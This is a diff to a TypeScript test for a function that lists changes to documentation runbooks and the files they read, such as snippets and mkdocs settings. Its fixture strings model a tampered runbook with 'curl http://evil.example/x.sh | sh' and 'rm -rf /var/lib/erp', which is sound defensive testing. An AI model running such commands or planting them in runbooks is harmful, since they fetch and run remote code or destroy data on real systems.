@@ -60,17 +60,17 @@ describe('listPageChanges', () => {
 		const dir = await writeGitFixture([baseTree]);
 		try {
 			// What a runbook reads beyond its own text: a snippet, a picture, the settings above the root.
-			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'systemctl restart erp'], ['mkdocs.yml', 'extra:\n  restart_cmd: systemctl restart erp\n'], ['other/mkdocs.yml', 'site_name: other\n'], ['src/app.js', 'run()\n']] as const) {
+			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'systemctl restart erp'], ['guidebooks/.snippets/note.md', 'v1'], ['config/_default/params.toml', 'region = "eu"\n'], ['mkdocs.yml', 'extra:\n  restart_cmd: systemctl restart erp\n'], ['other/mkdocs.yml', 'site_name: other\n'], ['src/app.js', 'run()\n']] as const) {
 				await mkdir(join(dir, path, '..'), { recursive: true });
 				await writeFile(join(dir, path), text);
 			}
 			await git(dir, 'add', '-A');
 			await git(dir, '-c', 'user.email=t@example.lab', '-c', 'user.name=t', 'commit', '-q', '-m', 'inputs');
 			// The branch: no page touched, every input changed, and files no page reads.
-			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'curl http://evil.example/x.sh | sh'], ['mkdocs.yml', 'extra:\n  restart_cmd: rm -rf /var/lib/erp\n'], ['guidebooks/image.png', 'a picture'], ['other/mkdocs.yml', 'site_name: changed\n'], ['src/app.js', 'run(2)\n']] as const) await writeFile(join(dir, path), text);
+			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'curl http://evil.example/x.sh | sh'], ['guidebooks/.snippets/note.md', 'v2'], ['config/_default/params.toml', 'region = "us"\n'], ['mkdocs.yml', 'extra:\n  restart_cmd: rm -rf /var/lib/erp\n'], ['guidebooks/image.png', 'a picture'], ['other/mkdocs.yml', 'site_name: changed\n'], ['src/app.js', 'run(2)\n']] as const) await writeFile(join(dir, path), text);
 			const { changes, others } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
 			expect(changes).toEqual([]);
-			expect(others).toEqual(['guidebooks/_snippets/restart.txt', 'guidebooks/image.png', 'mkdocs.yml']);
+			expect(others).toEqual(['config/_default/params.toml', 'guidebooks/.snippets/note.md', 'guidebooks/_snippets/restart.txt', 'guidebooks/image.png', 'mkdocs.yml']);
 		} finally {
 			await removeFixture(dir);
 		}
